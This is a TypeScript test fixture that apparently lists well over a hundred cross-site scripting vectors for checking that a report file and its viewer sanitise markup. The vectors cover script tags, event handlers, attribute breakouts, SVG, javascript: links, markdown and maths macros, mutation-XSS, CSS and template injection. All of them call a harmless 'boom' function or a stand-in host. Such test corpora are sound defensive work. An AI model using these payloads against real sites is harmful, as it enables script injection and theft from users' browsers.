/*
 * Texts that run, load or break something where a page takes them for markup. Each calls `boom`, which the tests watch, or asks for
 * something below `https://boom.invalid`, which they count. None of them may do anything, in the report file or in the viewer.
 */

const call = "boom()";
const away = "https://boom.invalid";

/** Script elements, whole, broken and in odd spellings. */
const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<ScRiPt >${call}</sCrIpT >`,
  `<script/anything>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<script\t>${call}</script\t>`,
  `<script src=${away}/a.js></script>`,
  `<script src="data:text/javascript,${call}"></script>`,
  `<script type=module>import "${away}/m.js"; ${call}</script>`,
  `<script async defer src=//boom.invalid/b.js></script>`,
  `<<script>${call};//<</script>`,
  `<script>${call}`,
  `<script x="</script>">${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script>/*</script><script>*/${call}</script>`,
  `<script nonce="">${call}</script>`,
  `<noscript><p title="</noscript><script>${call}</script>">`,
];

/** Ends of the elements in which a page keeps its data, and of comments. */
const dataEnds = [
  `</script><script>${call}</script>`,
  `</script ><img src=x onerror=${call}>`,
  `</SCRIPT\n><svg onload=${call}>`,
  `<!--<script>`,
  `<!-- --!><script>${call}</script>`,
  `--><script>${call}</script><!--`,
  `]]><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `</noscript><img src onerror=${call}>`,
  `"}]}</script><script>${call}//`,
  `\\u003c/script\\u003e\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
];

/** Handlers of events that need nobody to do anything, or little. */
const handlers = [
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call}"`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x:x onerror\n=\n${call}>`,
  `<img src=x onerror=&#98;oom()>`,
  `<img src=x onerror=\`${call}\`>`,
  `<IMG """><SCRIPT>${call}</SCRIPT>">`,
  `<image src=x onerror=${call}>`,
  `<body onload=${call}>`,
  `<body onpageshow=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}></select>`,
  `<textarea autofocus onfocus=${call}></textarea>`,
  `<button autofocus onfocus=${call}>press</button>`,
  `<details open ontoggle=${call}><summary>more</summary></details>`,
  `<video><source onerror=${call}></video>`,
  `<video src=x onerror=${call} poster=${away}/p.png></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<marquee onstart=${call}>walks</marquee>`,
  `<div style="animation: x" onanimationstart=${call}>moves</div>`,
  `<p contenteditable autofocus onfocus=${call}>text</p>`,
  `<dialog open onclose=${call}>said</dialog>`,
  `<div onpointerover=${call} style="position:fixed;inset:0;z-index:99999">over all</div>`,
  `<link rel=stylesheet href=${away}/s.css onerror=${call}>`,
  `<xss-element autofocus tabindex=1 onfocus=${call}>x</xss-element>`,
  `<div popover id=p onbeforetoggle=${call}>x</div><button popovertarget=p autofocus>y</button>`,
];

/** Values that break out of an attribute. */
const attributeEnds = [
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `" autofocus onfocus=${call} x="`,
  `' autofocus onfocus=${call} x='`,
  `" onmouseover="${call}" style="position:fixed;inset:0`,
  "` onerror=boom() `",
  `&quot; onfocus=${call} autofocus`,
  `javascript:${call}//" onclick="${call}`,
];

const vectorGraphics = [
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href="data:text/javascript,${call}"/></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=href to="javascript:${call}"/><a id=x><text y=20>t</text></a></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg><image href=${away}/i.svg onerror=${call}></svg>`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
];

/** Frames, objects and what sends the page elsewhere. */
const frames = [
  `<iframe src="javascript:parent.${call}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  `<iframe src=${away}/frame></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<object data="data:text/html,<script>opener.${call}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
  `<meta http-equiv=refresh content="0; url=${away}/gone">`,
  `<meta http-equiv=refresh content="0; url=javascript:${call}">`,
  `<base href=${away}/>`,
  `<form action=${away}/form><input name=x></form>`,
  `<form><button formaction="javascript:${call}">press</button></form>`,
  `<isindex action=javascript:${call} type=image>`,
  `<applet code=${away}/A.class></applet>`,
  `<frameset onload=${call}><frame src=${away}></frameset>`,
  `<link rel=prefetch href=${away}/pre><link rel=import href=${away}/imp>`,
  `<portal src=${away}></portal>`,
];

const addresses = [
  `<a href="javascript:${call}">press</a>`,
  `<a href="jAvAsCrIpT:${call}">press</a>`,
  `<a href="java\tscript:${call}">press</a>`,
  `<a href="&#106;avascript&colon;${call}">press</a>`,
  `<a href="\u0001javascript:${call}">press</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=">press</a>`,
  `<a href="vbscript:${call}">press</a>`,
  `<a href=${away} ping=${away}/ping target=_top>press</a>`,
];

/** Markdown whose links, pictures and references are not what they look like. */
const markdown = [
  `[press](javascript:${call})`,
  `[press](JaVaScRiPt:${call})`,
  `[press](javascript&colon;${call})`,
  `[press](&#x6a;avascript:${call})`,
  `[press](<javascript:${call}>)`,
  `[press](data:text/html,<script>${call}</script>)`,
  `[press](vbscript:${call} "title")`,
  `[press](${away} "title\\" onmouseover=${call} x=\\"")`,
  `[press][ref]\n\n[ref]: javascript:${call}`,
  `![picture](${away}/pixel.png)`,
  `![picture](x"onerror="${call})`,
  `![picture](javascript:${call})`,
  `![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImJvb20oKSIvPg==)`,
  `[![inner](${away}/in.png)](javascript:${call})`,
  `![a][b]\n\n[b]: ${away}/ref.png`,
  `<javascript:${call}>`,
  `<${away}/"onmouseover="${call}>`,
  `${away}/bare and www.boom.invalid and boom@boom.invalid`,
  "```html\n<script>boom()</script>\n```",
  '```"><img/src=x/onerror=boom()>\ncode\n```',
  "`<img src=x onerror=boom()>`",
  "~~~js onload=boom()\n</code></pre><script>boom()</script>\n~~~",
  `| a | b |\n| --- | --- |\n| <img src=x onerror=${call}> | ![x](${away}/t.png) |`,
  `> <script>${call}</script>\n> quoted`,
  `# <img src=x onerror=${call}> {#id onclick=${call}}`,
  `1. <svg onload=${call}>\n2. [x](javascript:${call})`,
  `*<img src=x onerror=${call}>*__<script>${call}</script>__`,
  `[press](\u0000javascript:${call})`,
  `\\<script>${call}\\</script>`,
  `[^1]\n\n[^1]: <script>${call}</script>`,
];

/** Maths macros that make links, load pictures or set attributes where they are allowed. */
const maths = [
  `$\\href{javascript:${call}}{press}$`,
  `$$\\href{${away}}{press}$$`,
  `$\\url{javascript:${call}}$`,
  `$\\includegraphics[width=1em]{${away}/math.png}$`,
  `$\\htmlData{onload=${call}}{x}$`,
  `$\\htmlClass{a" onmouseover="${call}}{x}$`,
  `$\\htmlStyle{position:fixed;inset:0;background:url(${away}/m)}{x}$`,
  `$\\htmlId{summary}{x}$`,
  `$\\style{background:url(${away}/s)}{x}$`,
  `$\\text{<img src=x onerror=${call}>}$`,
  `\\(\\text{</annotation></semantics></math><script>${call}</script>}\\)`,
  `$\\color{red;background:url(${away}/c)}{x}$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$\\unicode{x3c}script\\unicode{x3e}$`,
  `\\[\\begin{matrix}<img src=x onerror=${call}>&1\\\\\\end{matrix}\\]`,
  `$\\rule{99999em}{99999em}$`,
  `$\\mathchoice{\\href{javascript:${call}}{a}}{}{}{}$`,
];

/** Markup that is harmless until a browser parses, prints and parses it again. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><annotation-xml encoding="text/html"><script>${call}</script></annotation-xml></math>`,
  `<noembed><img title="</noembed><img src onerror=${call}>"></noembed>`,
  `<xmp><p title="</xmp><svg/onload=${call}>">`,
  `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<template><script>${call}</script></template>`,
  `<select><template><img src=x onerror=${call}></template></select>`,
  `<table><td><svg><style><img title="</style><img src=x onerror=${call}>">`,
  `<p id="x" name="y"><img name=getElementById><form id=body><input name=innerHTML>`,
  `<a id=summary></a><a id=defaultView name=location></a>`,
];

const styles = [
  `<style>@import "${away}/i.css"; *{display:none!important}</style>`,
  `<style>body{background:url(${away}/b.png)}</style>`,
  `<div style="background:url(${away}/d.png)">x</div>`,
  `<div style="width:expression(${call})">x</div>`,
  `<div style="-moz-binding:url(${away}/x.xml#a)">x</div>`,
  `<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">covered</div>`,
  `red;background:url(${away}/v.png)`,
  `<link rel=stylesheet href="data:text/css,*{display:none}">`,
];

/** What template languages would evaluate. */
const templates = [
  `{{constructor.constructor('${call}')()}}`,
  "${boom()}",
  "`${boom()}`",
  `#{${call}}`,
  `<%= ${call} %>`,
  `{%raw%}<script>${call}</script>{%endraw%}`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${call}"}}}`,
  `__proto__`,
  `constructor`,
];

/** Characters that hide, turn or merge what stands around them, and other spellings of what is above. */
const characters = [
  `\u202e<script>${call}</script>\u202c`,
  `\u2066\u202eelbadaer\u2069 text\u200f\u200b\ufeff`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `+ADw-script+AD4-boom()+ADw-/script+AD4-`,
  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  `<img src=x on\u0000error=${call}>`,
  `\ud800<script>${call}</script>`,
  `<\u017fcript>${call}</\u017fcript>`,
  `line\u2028separator\u2029<script>${call}</script>`,
  `\u001b[31mred\u001b]8;;${away}\u0007link\u001b]8;;\u0007`,
  `Z${"\u0310\u0334\u0322".repeat(60)}algo`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${call}`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  "long".repeat(500),
  `<${"div><".repeat(300)}p>deep`,
  `${"[".repeat(300)}deep${"](x)".repeat(300)}`,
];

/** At least 100, each with a name that says its kind. */
export const xssVectors: readonly { readonly name: string; readonly text: string }[] = Object.entries({
  script: scripts,
  data: dataEnds,
  handler: handlers,
  attribute: attributeEnds,
  svg: vectorGraphics,
  frame: frames,
  address: addresses,
  markdown,
  maths,
  mutation: mutations,
  style: styles,
  template: templates,
  character: characters,
}).flatMap(([kind, texts]) => texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text })));

/** Those that can be a name of a model, a branch or a file: no control characters, no empty or hidden part, not too long. */
export const xssNames: readonly string[] = xssVectors
  .map(({ text }) => text)
  .filter(
    (text) =>
      !/[\p{Cc}\p{Cs}\\]/u.test(text) &&
      text.split("/").every((part) => part !== "" && !part.startsWith(".") && Buffer.byteLength(part) <= 180),
  );
